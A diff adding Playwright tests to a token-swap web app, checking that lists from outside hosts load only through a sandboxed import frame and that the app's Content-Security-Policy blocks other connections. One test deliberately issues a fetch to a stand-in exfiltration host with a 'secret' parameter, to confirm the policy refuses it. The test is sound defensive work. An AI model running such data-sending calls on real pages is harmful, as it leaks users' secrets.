@@ -1,6 +1,6 @@
 import { readFileSync } from 'node:fs'
 import { resolve } from 'node:path'
-import type { Page, Route } from '@playwright/test'
+import type { Frame, Page, Route } from '@playwright/test'
 import { loadDeployment } from '../../devchain/index.ts'
 import { expect, test } from './fixtures.ts'
 import { type connectWallet, expectConnected } from './support/app.ts'
@@ -244,6 +244,100 @@ test.describe('token selector: manage lists', () => {
     await confirm.fill('REMOVE')
     await row.getByRole('button', { name: 'Remove', exact: true }).click()
     await expect(row).toHaveCount(0)
+  })
+})
+
+test.describe('token selector: lists from hosts the app does not list', () => {
+  const policyOf = (frame: Frame) =>
+    frame.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')
+  const directive = (policy: string | null, name: string) =>
+    (policy ?? '')
+      .split(';')
+      .map((part) => part.trim().split(/\s+/))
+      .find(([first]) => first === name)
+      ?.slice(1) ?? []
+
+  test('imports a list by URL through the hidden list-import page; the app page never connects to its host', async ({
+    page,
+    wallet,
+  }) => {
+    const url = 'https://lists.example/by-url.json'
+    const requesters: string[] = []
+    await page.route(url, (route) => {
+      requesters.push(route.request().frame().url())
+      return route.fulfill(
+        json(
+          list('By URL', [
+            { chainId: 31337, address: MKR.address, symbol: 'MKR', name: 'Maker', decimals: 18 },
+          ]),
+        ),
+      )
+    })
+    await start(page, wallet)
+    // The app's own policy lists its hosts one by one; nothing is framed before a list from elsewhere is asked for.
+    const appConnect = directive(await policyOf(page.mainFrame()), 'connect-src')
+    expect(appConnect).toContain("'self'")
+    expect(appConnect).not.toContain('https:')
+    expect(appConnect).not.toContain('*')
+    await expect(page.getByTestId('list-import-frame')).toHaveCount(0)
+
+    const manage = await openManage(page)
+    await manage.getByRole('textbox', { name: 'Add list by URL' }).fill(url)
+    await expect(manage.getByTestId('list-preview')).toContainText('By URL')
+    await manage.getByTestId('list-preview').getByRole('button', { name: 'Import' }).click()
+    const importList = page.getByRole('dialog', { name: 'Import List' })
+    await importList.getByLabel('I understand').check()
+    await importList.getByRole('button', { name: 'Import' }).click()
+    await expect(page.getByRole('dialog', { name: 'Manage' }).getByTestId(`list-row-${url}`)).toHaveAttribute(
+      'data-active',
+      'true',
+    )
+
+    // Preview and import were both downloaded by the list-import page, under its own policy, with one script.
+    expect(requesters.length).toBeGreaterThanOrEqual(2)
+    for (const requester of requesters) expect(new URL(requester).pathname).toMatch(/\/list-import\.html$/)
+    await expect(page.getByTestId('list-import-frame')).toHaveCount(1)
+    const importPage = page.frames().find((frame) => frame.url().endsWith('/list-import.html'))
+    if (!importPage) throw new Error('the list-import page is not framed')
+    const importPolicy = await policyOf(importPage)
+    expect(directive(importPolicy, 'connect-src')).toEqual(['https:'])
+    expect(directive(importPolicy, 'default-src')).toEqual(["'none'"])
+    expect(
+      await importPage.locator('script').evaluateAll((scripts) => scripts.map((s) => s.getAttribute('src'))),
+    ).toEqual([expect.stringMatching(/^\.\/assets\/listImport-[0-9a-f]+\.js$/)])
+
+    // Its tokens are the app's now.
+    await page.getByRole('button', { name: 'Back' }).click()
+    const search = page.getByRole('dialog', { name: 'Select a token' })
+    await search.getByRole('textbox', { name: 'Search name or paste address' }).fill('Maker')
+    await expect(search.getByTestId(`token-row-${MKR.address}`)).toContainText('MKR')
+  })
+
+  test('a script in the app page cannot reach a host the policy does not list', async ({
+    page,
+    pageProblems,
+  }) => {
+    const reached: string[] = []
+    page.on('request', (request) => {
+      if (request.url().startsWith('https://exfiltrate.example/')) reached.push(request.url())
+    })
+    await page.goto('/#/swap')
+    await expect(page.getByRole('button', { name: 'Connect to a wallet' })).toBeVisible()
+    const outcome = await page.evaluate(() =>
+      fetch('https://exfiltrate.example/?secret=1').then(
+        () => 'connected',
+        (error: unknown) => String(error),
+      ),
+    )
+    expect(outcome).toContain('Failed to fetch')
+    // (A cross-origin URL may be reported as its origin alone.)
+    const refusal = 'connect-src blocked https://exfiltrate.example'
+    await expect.poll(() => pageProblems.some((problem) => problem.includes(refusal))).toBe(true)
+    expect(reached).toEqual([])
+    // The policy's refusal is the point of this test; any other problem still fails it.
+    const others = pageProblems.filter((problem) => !problem.includes(refusal))
+    pageProblems.length = 0
+    pageProblems.push(...others)
   })
 })
 
